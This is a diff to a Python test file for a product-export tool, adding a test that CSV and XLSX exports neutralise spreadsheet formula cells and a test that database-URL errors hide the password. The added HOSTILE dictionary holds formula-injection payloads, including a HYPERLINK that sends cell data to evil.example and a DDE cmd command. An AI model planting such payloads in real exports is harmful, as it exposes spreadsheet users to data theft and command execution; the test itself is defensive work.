@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import json
 from collections.abc import Iterator
+from decimal import Decimal
 from pathlib import Path
 
 import pytest
@@ -88,10 +89,52 @@ async def test_export_formats(store: Engine, tmp_path: Path, fmt: str) -> None:
         assert [c.value for c in next(sheet.iter_rows(min_row=2, max_row=2))][3] == "Tea pot 1"
 
 
+HOSTILE = {"title": '=HYPERLINK("http://evil.example/?d="&A1,"click")', "brand": "+cmd|' /C calc'!A0",
+           "sku": "-2+3", "category": "@SUM(1+1)", "mpn": "\tmpn", "gtin": "\r=1+1"}
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_exports_neutralise_cells_a_spreadsheet_would_run_as_formulas(store: Engine, tmp_path: Path,
+                                                                       fmt: str) -> None:
+    from sqlalchemy import insert
+
+    from sightsearch.storage.db import session_scope
+    from sightsearch.storage.models import Product
+
+    with session_scope(store) as session:  # straight into the table: what a crawled page could leave there
+        session.execute(insert(Product), [{"site": "shop.test", "product_key": "k1", "url": "http://shop.test/1",
+                                           "price": Decimal("9.50"), "images": [], "attributes": {}, "sources": {},
+                                           "content_hash": "0" * 64, **HOSTILE}])
+    output = tmp_path / f"products.{fmt}"
+    invoke("export", "--format", fmt, "--output", str(output))
+    if fmt == "csv":
+        (row,) = list(csv.DictReader(output.open(newline="")))
+        cells = {name: row[name] for name in HOSTILE}
+        assert row["price"] == "9.5000"
+    else:
+        import openpyxl
+
+        sheet = openpyxl.load_workbook(output).active
+        header = [cell.value for cell in sheet[1]]
+        values = {header[i]: cell for i, cell in enumerate(sheet[2])}
+        assert all(cell.data_type == "s" for cell in values.values() if cell.value is not None), "no formula cells"
+        cells = {name: values[name].value for name in HOSTILE}
+        assert values["price"].value == "9.5000"
+    assert cells == {name: "'" + value for name, value in HOSTILE.items()}
+
+
 def test_unknown_export_format_is_a_clear_error(store: Engine, tmp_path: Path) -> None:
     result = runner.invoke(app, ["export", "--format", "yaml", "--output", str(tmp_path / "x")])
     assert result.exit_code != 0
     assert "unknown export format 'yaml'" in str(result.exception)
+
+
+def test_a_malformed_database_url_is_refused_without_its_password(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("SIGHTSEARCH_DATABASE_URL", "postgresql//ops:hunter2-secret@db.internal/shop")
+    result = runner.invoke(app, ["runs"])
+    message = str(result.exception)
+    assert "not a database URL" in message and "db.internal/shop" in message
+    assert "hunter2-secret" not in message and "ops" not in message
 
 
 def test_bad_database_url_is_a_clear_error(monkeypatch: pytest.MonkeyPatch) -> None:
